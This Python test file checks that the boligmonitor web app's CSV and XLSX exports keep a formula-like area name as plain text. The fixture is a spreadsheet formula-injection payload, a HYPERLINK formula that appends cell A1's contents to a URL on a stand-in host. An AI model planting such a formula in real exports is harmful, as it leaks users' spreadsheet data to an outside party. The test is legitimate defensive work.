"""The web's CSV and XLSX downloads keep a name that looks like a formula as text (same writers as the CLI)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from boligmonitor.web import models as m
from boligmonitor.web.actions import import_bundle
from tests.web.bundles import copy_bundle, edit_json, reseal

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'


def test_a_formula_in_an_area_name_is_text_in_csv_and_xlsx(client_for: Any, synth_bundle: Path,
                                                           tmp_path: Path) -> None:
    listed = m.Classification.objects.filter(vintage__published=True, member=True).order_by("list_year").first()
    assert listed is not None
    b = copy_bundle(synth_bundle, tmp_path / "b")

    def rename(reg: dict[str, Any]) -> None:
        next(a for a in reg["areas"] if a["area_id"] == listed.area_id)["name"] = EVIL

    v = import_bundle(reseal(edit_json(b, "registry.json", rename), note="formula")).vintage
    c = client_for("analyst")
    query = f"vintage={v.pk}&year={listed.list_year}"
    text = c.get(f"/lists.csv?{query}").content.decode("utf-8-sig")
    names = [row[3] for row in csv.reader(io.StringIO(text), delimiter=";") if len(row) > 3]
    assert "'" + EVIL in names and EVIL not in names
    ws = load_workbook(io.BytesIO(c.get(f"/lists.xlsx?{query}").content)).active
    assert ws is not None
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value == EVIL]
    assert cells and all(cell.data_type == "s" for cell in cells)
